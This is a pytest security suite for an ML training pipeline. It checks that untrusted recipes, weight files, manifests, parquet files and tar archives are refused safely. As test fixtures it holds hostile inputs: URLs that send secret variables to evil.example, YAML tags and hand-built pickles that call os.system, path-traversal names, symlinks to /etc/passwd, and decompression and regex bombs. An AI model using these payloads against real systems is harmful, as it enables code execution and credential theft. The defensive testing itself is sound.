"""Files of strangers: recipes, suites, weights, manifests. Nothing of theirs runs, leaks, or leaves its folder."""

import enum
import hashlib
import inspect
import io
import json
import os
import pathlib
import pickle
import re
import struct
import subprocess
import sys
import tarfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from tokenizers import Tokenizer, models
from torch.distributed.checkpoint.filesystem import SerializationFormat
from typer.testing import CliRunner

from openlm_pipeline.alerts import WEBHOOK, send_alert
from openlm_pipeline.checkpoints.folders import COMPLETE, INFO, read_checkpoint
from openlm_pipeline.checkpoints.reading import SafeReader
from openlm_pipeline.checkpoints.weight_files import read_weight_files
from openlm_pipeline.cli.main import app
from openlm_pipeline.cli.ui import ui
from openlm_pipeline.corpus.reader import RecordReader
from openlm_pipeline.errors import ConfigError, DataError, OpenLMError
from openlm_pipeline.evaluation.suite_files import read_suite_file
from openlm_pipeline.experiments import load_experiment
from openlm_pipeline.fingerprint import fingerprint
from openlm_pipeline.shards.foreign import expand, manifest_counts
from openlm_pipeline.shards.manifest import MANIFEST, read_manifest
from openlm_pipeline.shards.openlm_formats import read_shard
from openlm_pipeline.storage.home import Home
from openlm_pipeline.strict import read_mapping
from openlm_pipeline.tokenizers.engines.huggingface import HuggingFaceEngine

REPOSITORY = Path(__file__).parents[1]
IDS = b"[1, 2, 3, 4]"
SECRET = "wJalrXUtnFEMI-very-secret"
RECIPE = """\
name: theirs
description: "\\e[31mred \\e]0;title\\a"
tokenizer: {name: bpe, train: {vocab_size: 300}}
seq_len: 16
sources: [{name: text, files: ["raw/*.jsonl"]}]
model: {hidden_dim: 8, n_layers: 1, n_heads: 1}
training: {global_batch: 64, lr: 1.0e-3}
milestones: [1K]
"""


@pytest.fixture
def recipe(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("AWS_SECRET_ACCESS_KEY", "OPENLM_ALERT_WEBHOOK", "HF_TOKEN", "MY_DATA"):
        monkeypatch.setenv(name, SECRET)
    monkeypatch.setenv("OPENLM_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("OPENLM_RECIPES", str(tmp_path))
    path = tmp_path / "theirs.yaml"
    path.write_text(RECIPE)
    return path


# ---- recipes and suites

OUTSIDE = ("../x", "/tmp/x", "a/../../x", "..", ".", "a\n", "a\x1b[31m", "")


@pytest.mark.parametrize("name", OUTSIDE)
@pytest.mark.parametrize("key", ["name", "version", "sources.0.name", "sources.0.version", "tokenizer.name"])
def test_a_name_that_is_no_folders_name_is_refused(recipe: Path, key: str, name: str) -> None:
    with pytest.raises(ConfigError, match="should match pattern"):
        load_experiment(str(recipe), [f"{key}={json.dumps(name)}"])


URLS = (
    "https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}",
    "https://evil.example/${HF_TOKEN}/x",
    "https://evil.example/${OPENLM_ALERT_WEBHOOK:-x}",
    f"s3://key:{SECRET}@bucket/x",
    f"https://x.example/a?X-Amz-Credential=a&X-Amz-Signature={SECRET}",
    f"https://x.example/a?sv=1&sig={SECRET}",
)
KEYS = ("sources.0.files.0", "execution.upload_to", "execution.shards_url", "description")


@pytest.mark.parametrize("url", URLS)
@pytest.mark.parametrize("key", KEYS)
def test_no_credentials_in_a_recipes_url(recipe: Path, url: str, key: str) -> None:
    with pytest.raises(ConfigError, match="holds credentials") as refused:
        load_experiment(str(recipe), [f"{key}={url}"])
    assert SECRET not in str(refused.value)


@pytest.mark.parametrize("text", ["export K=${HF_TOKEN}", "${HF_TOKEN:-none}"])
def test_no_secret_is_put_into_a_recipe(recipe: Path, text: str) -> None:
    with pytest.raises(ConfigError, match=r"write \$HF_TOKEN, which launcher.slurm.environment") as refused:
        load_experiment(str(recipe), ["launcher.kind=slurm", f"launcher.slurm.setup=['{text}']"])
    assert SECRET not in str(refused.value)


@pytest.mark.parametrize("url", ["s3://bucket/tokens/x?versionId=3", "hf://datasets/a@main/b", "tcp://host:8786"])
def test_other_urls_are_taken(recipe: Path, url: str) -> None:
    assert load_experiment(str(recipe), [f"execution.upload_to={url}"]).execution.upload_to == url


@pytest.mark.parametrize("url", [*URLS, "https://evil.example/${MY_DATA}", "${HOME:-x}/x.jsonl"])
def test_a_suite_reads_no_variable_but_ours(recipe: Path, url: str) -> None:
    suite = recipe.with_name("suite.yml")
    suite.write_text(json.dumps({"icl_tasks": [{"label": "a", "dataset_uri": url}]}))
    with pytest.raises(ConfigError, match=r"holds credentials|only variables OPENLM_\*") as refused:
        read_suite_file(suite)
    assert SECRET not in str(refused.value)


YAMLS = {
    "a tag of Python": "a: !!python/object/apply:os.system ['touch {proof}']",
    "a tag of a name": "a: !!python/name:os.system",
    "nested brackets": "a: " + "[" * 100_000,
    "nested braces": "a: " + "{b: " * 30_000,
    "a long number": "a: " + "9" * 100_000,
    "aliases": "a0: &a0 [x]\n" + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 12)),
}


@pytest.mark.parametrize("kind", YAMLS)
def test_yaml_makes_plain_values_of_a_bounded_number(kind: str, tmp_path: Path) -> None:
    path, proof = tmp_path / "x.yaml", tmp_path / "was_run"
    path.write_text(YAMLS[kind].replace("{proof}", str(proof)))
    with pytest.raises(ConfigError, match=re.escape(str(path))):
        read_mapping(path)
    assert not proof.exists()


def test_a_terminal_is_told_nothing_by_a_file(recipe: Path) -> None:
    assert str(OpenLMError("file \x1b]0;x\x07 \x9b31m\r\u202e of\nlines\t文")) == (
        "file \\x1b]0;x\\x07 \\x9b31m\\r\\u202e of\nlines\t文"
    )
    listed = CliRunner().invoke(app, ["recipes"]).output
    assert "theirs" in listed and "\x1b" not in listed and "\x07" not in listed


# ---- weights


def set_attribute(target: str) -> bytes:
    """A pickle, written by hand, that sets the attribute `theirs` of what two lines of GLOBAL name."""
    return b"\x80\x02c" + target.encode() + b"\nN}X\x06\x00\x00\x00theirsK\x01s\x86b."


TARGETS = {
    "pathlib\nPosixPath": pathlib.PosixPath,
    "torch.distributed.checkpoint.metadata\nMetadata": sys.modules["torch.distributed.checkpoint.metadata"].Metadata,
    "torch.serialization\n_get_layout": torch.serialization._get_layout,
    "torch.distributed.checkpoint.filesystem\nSerializationFormat": SerializationFormat,
}


@pytest.mark.parametrize("target", TARGETS)
def test_a_description_sets_nothing_of_a_class(target: str, tmp_path: Path) -> None:
    (tmp_path / ".metadata").write_bytes(set_attribute(target))
    with pytest.raises(DataError, match="attributes of"):
        SafeReader(tmp_path).read_metadata()
    assert not hasattr(TARGETS[target], "theirs")


def test_a_description_sets_nothing_of_an_enums_member(tmp_path: Path) -> None:
    member: enum.Enum = next(iter(SerializationFormat))
    module = b"ctorch.distributed.checkpoint.filesystem\nSerializationFormat\n"
    value = pickle.dumps(member.value, 2)[2:-1]
    (tmp_path / ".metadata").write_bytes(b"\x80\x02" + module + value + b"\x85R}X\x06\x00\x00\x00theirsK\x01sb.")
    with pytest.raises(DataError, match="attributes of"):
        SafeReader(tmp_path).read_metadata()
    assert not hasattr(member, "theirs")


def saved(value: object) -> bytes:
    out = io.BytesIO()
    torch.save(value, out)
    return out.getvalue()


class Runs:
    def __reduce__(self):
        return os.system, ("touch was_run",)


def safetensors(header: bytes, size: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if size is None else size) + header + b"1234"


HUGE = {"tok_embeddings.weight": {"dtype": "F32", "shape": [1 << 40, 1 << 20], "data_offsets": [0, 4]}}
WEIGHTS = {
    "a call.pt": saved({"tok_embeddings.weight": Runs()}),
    "a string.pt": saved({"state_dict": {"tok_embeddings.weight": "x"}}),
    "a key that is a number.pt": saved({1: torch.zeros(1)}),
    "a list.pt": saved([1]),
    "a header of 2^60.safetensors": safetensors(b"{}", 1 << 60),
    "a cut header.safetensors": safetensors(b'{"a":{"dtype":"F32"}'),
    "a shape of 2^60.safetensors": safetensors(json.dumps(HUGE).encode()),
}


@pytest.mark.parametrize("name", WEIGHTS)
def test_weights_are_tensors_or_refused(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_bytes(WEIGHTS[name])
    with pytest.raises(DataError, match=re.escape(name)):
        read_weight_files(tmp_path / name)
    assert not (tmp_path / "was_run").exists()


INDEXES = ("{}", "[]", '{"weight_map": {"a": 1}}', '{"weight_map": {"a": "../x.safetensors"}}', "[" * 100_000)


@pytest.mark.parametrize("index", INDEXES, ids=range(len(INDEXES)))
def test_an_index_of_weights_names_files_of_its_folder(index: str, tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('{"model_type": "openlm"}')
    (tmp_path / "model.safetensors.index.json").write_text(index)
    with pytest.raises(DataError, match="model.safetensors.index.json"):
        read_weight_files(tmp_path)


def test_a_checkpoint_names_files_of_its_folder(tmp_path: Path) -> None:
    files = {"../../x": {"bytes": 1, "sha256": hashlib.sha256(b"x").hexdigest()}}
    info = {"step": 1, "tokens": 1, "milestone": None, "run_fingerprint": "f", "files": files}
    (tmp_path / INFO).write_text(json.dumps({**info, "sha256": fingerprint(info)}))
    (tmp_path / COMPLETE).touch()
    with pytest.raises(DataError, match=r"x', which is outside its folder"):
        read_checkpoint(tmp_path)


# ---- datasets


@pytest.mark.parametrize("change", [{"shard": "../../x"}, {"shard": "/x"}, {"beside": {"../x": "0"}}])
def test_a_manifest_names_files_of_its_folder(change: dict, tmp_path: Path) -> None:
    entry = {"shard": "00000000", "num_sequences": 1, "bytes": 1, "sha256": "0", "tokens": 1, "source": "s"}
    (tmp_path / MANIFEST).write_text(json.dumps(entry | change))
    with pytest.raises(DataError, match="line 1, names .* outside its folder"):
        read_manifest(tmp_path)
    if "shard" in change:
        with pytest.raises(DataError, match="line 1, names .* outside its folder"):
            manifest_counts(str(tmp_path / MANIFEST))


@pytest.mark.parametrize("store_schema", [True, False])
def test_a_small_parquet_file_takes_little_memory(store_schema: bool, tmp_path: Path) -> None:
    """It stands for 214 GB: 26,000 rows of one text of 8 MiB."""
    texts = pa.DictionaryArray.from_arrays(pa.array([0] * 26_000, pa.int32()), ["x" * (8 << 20)])
    path = tmp_path / "x.parquet"
    pq.write_table(pa.table({"text": texts}), path, compression="zstd", store_schema=store_schema)
    assert path.stat().st_size < 1000
    del texts
    records, before = iter(RecordReader(str(path), on_bad=print)), pa.total_allocated_bytes()
    assert {len(next(records).text) for _ in range(20)} == {8 << 20}
    assert pa.total_allocated_bytes() - before < 200 << 20


@pytest.mark.parametrize("encoding", ["PLAIN", "DELTA_BYTE_ARRAY"])
def test_a_parquet_page_that_stands_for_much_is_refused_before_its_memory_is_taken(
    encoding: str, tmp_path: Path
) -> None:
    """400 MiB: as one text, and as texts that are stored as differences from each other."""
    texts = ["x" * (400 << 20)] if encoding == "PLAIN" else ["x" * (4 << 20)] * 100
    path, how = tmp_path / "x.parquet", {"column_encoding": {"text": encoding}, "use_dictionary": False}
    table = pa.table({"text": pa.array(texts, pa.large_string())})
    pq.write_table(table, path, compression="zstd", data_page_size=1 << 30, write_statistics=False, **how)
    assert path.stat().st_size < 20_000
    # Alone, as this process may have let go of so much memory that it needs no more.
    code = "import sys; from openlm_pipeline.corpus.reader import RecordReader as R; list(R(sys.argv[1], on_bad=print))"
    read = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, check=False)
    said = r"DataError: .*takes over 320 MiB for a page of row group 0, for [\d,]+ bytes"
    assert read.returncode == 1 and re.search(said, read.stderr), read.stderr


def test_an_address_that_is_no_address_is_not_told(monkeypatch: pytest.MonkeyPatch, caplog) -> None:
    for url in (f"https://hooks.example/{SECRET} x", f"http://[{SECRET}/", f"http://h:{SECRET}/"):
        monkeypatch.setenv(WEBHOOK, url)
        assert not send_alert("hello")
    assert SECRET not in caplog.text and caplog.text.count("can't be reached") == 3


def test_a_tars_members_are_read_and_never_unpacked(tmp_path: Path) -> None:
    path = tmp_path / "in" / "x.tar"
    path.parent.mkdir()
    with tarfile.open(path, "w") as archive:
        for name, kind, link in (("../../evil", tarfile.SYMTYPE, "/etc"), ("hard", tarfile.LNKTYPE, "/etc/passwd")):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, link
            archive.addfile(member)
        for name in ("../../evil/00000000.json", "/00000001.json"):
            member = tarfile.TarInfo(name)
            member.size = len(IDS)
            archive.addfile(member, io.BytesIO(IDS))
    rows = read_shard(path, seq_len=3, vocab_size=9, eot_id=0, pad_id=None)
    assert rows.tolist() == [[1, 2, 3, 4]] * 2
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["in", "x.tar"]


def test_a_pipe_is_no_shard(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="is a shell command, and none is run"):
        expand(f"pipe:touch {tmp_path}/was_run", Home(tmp_path))


def test_a_pattern_without_end_is_the_texts_error(tmp_path: Path) -> None:
    """Matching is given up after a bounded number of tries."""
    path = tmp_path / "tokenizer.json"
    pattern = {"type": "Split", "pattern": {"Regex": "(a|aa)+$"}, "behavior": "Isolated", "invert": False}
    tokenizer = Tokenizer(models.BPE(vocab={"a": 0, "c": 1}, merges=[]))
    path.write_text(json.dumps(json.loads(tokenizer.to_str()) | {"pre_tokenizer": pattern}))
    with pytest.raises(DataError, match="retry-limit-in-match"):
        HuggingFaceEngine(path).encode_batch(["a" * 40 + "c"])


# ---- servers, and the page that tells of all this


def test_servers_listen_on_this_machine_alone() -> None:
    assert inspect.signature(ui).parameters["host"].default == "127.0.0.1"
    assert "--host 127.0.0.1" in (REPOSITORY / "Makefile").read_text()
    for unit in (REPOSITORY / "deploy").rglob("*.service"):
        if "bin/dagster-webserver" in (text := unit.read_text()):
            assert re.search(r"(-h|--host)[ =]127\.0\.0\.1", text)
    for folder in ("openlm_pipeline", "train", "assets", "orchestration", "deploy"):
        for path in (REPOSITORY / folder).rglob("*"):
            if path.suffix in (".py", ".yaml", ".service", ".sh"):
                assert "0.0.0.0" not in path.read_text(), path


def test_each_line_of_the_table_names_tests_that_there_are() -> None:
    lines = [line for line in (REPOSITORY / "docs/security.md").read_text().splitlines() if "| `tests/" in line]
    assert len(lines) > 15
    for line in lines:
        file, name = re.search(r"\| `(tests/\S+\.py)`, `(test_\w+)` \|$", line).groups()
        assert f"def {name}(" in (REPOSITORY / file).read_text(), line
